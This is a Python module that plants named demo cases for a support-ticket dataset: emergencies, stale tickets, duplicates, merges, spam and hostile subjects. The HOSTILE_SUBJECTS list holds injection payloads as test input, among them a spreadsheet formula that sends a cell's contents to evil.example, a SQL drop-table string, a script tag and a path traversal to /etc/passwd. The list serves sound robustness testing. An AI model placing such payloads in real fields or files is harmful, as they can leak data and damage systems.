"""The cases that are there on purpose: fresh emergencies, old open ones, duplicates, merges, spam, hostile text.

Belongs here: what a test or a reader of the demo will look for by name. Does not belong here: the ordinary year.
"""

from dataclasses import dataclass

from pipelines.demo.case import Case, Message, Step
from pipelines.demo.casebook import Casebook
from pipelines.demo.hours import DAY, HOUR, BusinessHours
from pipelines.demo.issues import BY_KEY
from pipelines.demo.people import Customer, agent_on_shift

MINUTE = 60

HOSTILE_SUBJECTS = (
    '=HYPERLINK("http://evil.example/?c="&A1,"Click for your refund")',
    "+1+1",
    "-2+3 items missing",
    "@here please answer",
    "<!channel> where is my parcel?",
    "<script>alert('ticket')</script>",
    "Broken again 🔥🧯 please help 🙏",
    "مشكلة في الطلب \u202e0001-CA",
    "../../etc/passwd?subject=invoice",
    "*bold* `code` <https://evil.example|click>",
    "'; DROP TABLE ticket; --",
)
LONG_SUBJECT_LENGTH = 5000
SPAM = (
    (
        "Boost your sales with 10,000 followers",
        "Dear owner, buy followers today at http://follow.example/now",
    ),
    (
        "Re: your invoice (final warning)",
        "Open the document at http://docs.example/inv to avoid a penalty.",
    ),
    ("Cheap pallets of returned goods", "We offer pallets from 99 EUR. Reply STOP to unsubscribe."),
)
MERGED_AWAY = 'This request was closed and merged into request #{other} "{other_subject}".'
MERGED_HERE = 'Request #{other} "{other_subject}" was closed and merged into this request.'
"""Filled in once the cases have their numbers."""


@dataclass(frozen=True, slots=True)
class Pair:
    """One matter sent on two channels."""

    portal: Case
    mail: Case


class Planter:
    """Plants cases relative to the demo's end."""

    def __init__(self, book: Casebook, hours: BusinessHours, live_from: int, as_of: int) -> None:
        """`live_from` is the instant from which the client may be paged."""
        self._book, self._hours = book, hours
        self._live_from, self._as_of = live_from, as_of
        self._rng = book.rng

    def fresh(self) -> list[Case]:
        """Twelve open cases from after going live; two critical ones, several high ones late or nearly so."""
        return [
            self._late_critical(),
            self._silent_critical(),
            self._fresh("zendesk", "api_error", "high", business=75 * MINUTE),
            self._fresh(
                "freshdesk",
                "card_reader",
                "high",
                business=135 * MINUTE,
                subject=HOSTILE_SUBJECTS[4],
            ),
            self._fresh("zendesk", "payment_failed", "high", business=52 * MINUTE),
            self._slow_high(),
            self._fresh("zendesk", "emails_not_sent", "high", business=10 * MINUTE),
            self._fresh("zendesk", "delivery_late", "medium", business=125 * MINUTE),
            self._waiting_medium(),
            self._fresh("freshdesk", "how_to", "low", business=100 * MINUTE),
            self._fresh("mail", "invoice_missing", "medium", business=95 * MINUTE),
            self._fresh("mail", "wrong_item", "medium", business=40 * MINUTE),
        ]

    def settled_after_live(self, count: int) -> list[Case]:
        """Cases from after going live that are solved already: the desk is at work."""
        cases = []
        for number in range(count):
            at = self._live_from + self._rng.randint(HOUR, self._as_of - self._live_from - 5 * HOUR)
            source = ("zendesk", "freshdesk", "mail")[number % 3]
            case = self._book.begin(source, at=at, issue=BY_KEY["how_to"], priority="low")
            answered = self._book.course.assign(case, at + self._rng.randint(600, HOUR))
            self._book.course.reply(
                case, answered + self._rng.randint(600, HOUR), "solution", status="solved"
            )
            case.planted.add("settled_after_live")
            cases.append(case)
        return cases

    def old_open(self, count: int) -> list[Case]:
        """Cases from long before going live that nobody finished; many broke their promise weeks ago."""
        cases = []
        for number in range(count):
            source = ("zendesk", "freshdesk", "zendesk", "freshdesk", "zendesk", "mail")[number % 6]
            at = self._live_from - self._rng.randint(2 * DAY, 55 * DAY)
            if number % 5 == 4:
                at = self._live_from - self._rng.randint(2 * HOUR, 30 * HOUR)
            priority = ("medium", "high", "low", "medium", "critical", "low", "high")[number % 7]
            issue = None if source != "mail" else BY_KEY["feature_request"]
            case = self._book.begin(source, at=at, priority=priority, issue=issue)
            self._leave(case, self._rng.randrange(4))
            case.planted.add("old_open")
            case.cut(self._as_of)
            cases.append(case)
        return cases

    def pairs(self, customers: list[Customer], count: int) -> list[Pair]:
        """The same text to info@ and over the portal within twenty minutes."""
        pairs = []
        writers = [one for one in customers if "mail" in one.sources]
        for number in range(count):
            customer = writers[number % len(writers)]
            portal_source = next(source for source in customer.sources if source != "mail")
            channel = "web" if portal_source == "zendesk" else "portal"
            portal = self._book.finished(
                portal_source,
                self._as_of - DAY,
                customer=customer,
                channel=channel,
                priority="medium",
            )
            gap = self._rng.randint(2 * MINUTE, 19 * MINUTE)
            at = portal.created_at + (gap if number % 3 else -gap)
            first = portal.steps[0].message
            mail = self._book.begin(
                "mail",
                at=at,
                customer=customer,
                issue=portal.issue,
                priority="medium",
                subject=portal.subject,
                text=first.text if first else None,
            )
            answered = self._hours.add(
                max(at, portal.created_at), self._rng.randint(HOUR, 3 * HOUR)
            )
            self._book.course.reply(mail, answered, "wait_note", status="solved")
            mail.cut(self._as_of)
            portal.planted.add("duplicate")
            mail.planted.add("duplicate")
            pairs.append(Pair(portal, mail))
        return pairs

    def hostile(self) -> list[Case]:
        """Ordinary cases whose subject tries to be something else."""
        cases = []
        long_subject = ("Please read all of this: nothing works " * 200)[:LONG_SUBJECT_LENGTH]
        for number, subject in enumerate((*HOSTILE_SUBJECTS, long_subject)):
            source = ("zendesk", "freshdesk", "mail")[number % 3]
            case = self._book.finished(source, self._as_of - DAY, subject=subject)
            case.planted.add("hostile")
            cases.append(case)
        return cases

    def merge(self, case: Case, target: Case) -> None:
        """Ends a case by merging it into another of the same customer, within two hours; both are told."""
        at = case.created_at + self._rng.randint(20 * MINUTE, 2 * HOUR)
        case.cut(case.created_at + MINUTE)
        agent = agent_on_shift(self._rng, at, "support")
        gone = Message(agent, False, MERGED_AWAY, kind="merge")
        case.add(at, agent, gone, other_case=target, assignee=agent, status="closed")
        case.merged_into = target
        case.rating = None
        case.planted.add("merged")
        came = Message(agent, False, MERGED_HERE, kind="merge")
        target.steps.append(Step(at, agent, came, other_case=case))
        target.steps.sort(key=lambda step: step.at)

    def delete(self, case: Case) -> None:
        """Somebody deletes the case some hours after it came."""
        case.is_deleted = True
        self._discard(case, "deleted")

    def spam(self, source: str) -> Case:
        """Advertising that came in as a case and was marked as spam."""
        subject, text = self._rng.choice(SPAM)
        case = self._book.begin(source, subject=subject, text=text, channel="email", priority="low")
        case.is_spam = True
        self._discard(case, "spam")
        return case

    def _discard(self, case: Case, why: str) -> None:
        at = case.created_at + self._rng.randint(10 * MINUTE, 5 * HOUR)
        case.cut(case.created_at + MINUTE)
        agent = agent_on_shift(self._rng, at, "support")
        case.add(at, agent, status="deleted")
        case.rating = None
        case.planted.add(why)

    def _late_critical(self) -> Case:
        at = self._as_of - 160 * MINUTE
        case = self._book.begin("zendesk", at=at, issue=BY_KEY["outage"], priority="critical")
        self._book.course.reply(case, self._as_of - 95 * MINUTE, "answer", status="open")
        case.planted.update(("fresh", "fresh_late_reply"))
        return case

    def _silent_critical(self) -> Case:
        at = self._as_of - 70 * MINUTE
        case = self._book.begin("freshdesk", at=at, issue=BY_KEY["outage"], priority="critical")
        case.planted.update(("fresh", "fresh_unanswered_critical"))
        return case

    def _fresh(
        self, source: str, issue: str, priority: str, *, business: int, subject: str | None = None
    ) -> Case:
        at = self._ago(business)
        case = self._book.begin(
            source, at=at, issue=BY_KEY[issue], priority=priority, subject=subject
        )
        case.planted.add("fresh")
        return case

    def _slow_high(self) -> Case:
        at = self._ago(7 * HOUR)
        case = self._book.begin(
            "freshdesk", at=at, issue=BY_KEY["webhook_missing"], priority="high"
        )
        self._book.course.assign(case, at + 10 * MINUTE)
        self._book.course.reply(case, at + 25 * MINUTE, "answer")
        case.planted.add("fresh")
        return case

    def _waiting_medium(self) -> Case:
        at = self._ago(3 * HOUR)
        case = self._book.begin("freshdesk", at=at, issue=BY_KEY["refund"], priority="medium")
        self._book.course.reply(case, at + 40 * MINUTE, "question", status="pending")
        case.planted.add("fresh")
        return case

    def _ago(self, business: int) -> int:
        """That much business time ago; where that would be before going live, as much clock time ago."""
        at = self._hours.subtract(self._as_of, business)
        return at if at > self._live_from else self._as_of - business

    def _leave(self, case: Case, how: int) -> None:
        """Leaves an old case unanswered, waiting for the customer, on hold, or in work."""
        course, rng = self._book.course, self._rng
        if how == 0:
            return
        at = self._hours.add(case.created_at, rng.randint(HOUR, 12 * HOUR))
        if how == 1:
            course.reply(case, at, "question", status="pending")
        elif how == 2:
            course.reply(case, at, "on_hold", status="on_hold")
        else:
            at = course.reply(case, at, "answer", status="open")
            course.nudge(case, self._hours.add(at, rng.randint(9 * HOUR, 27 * HOUR)))
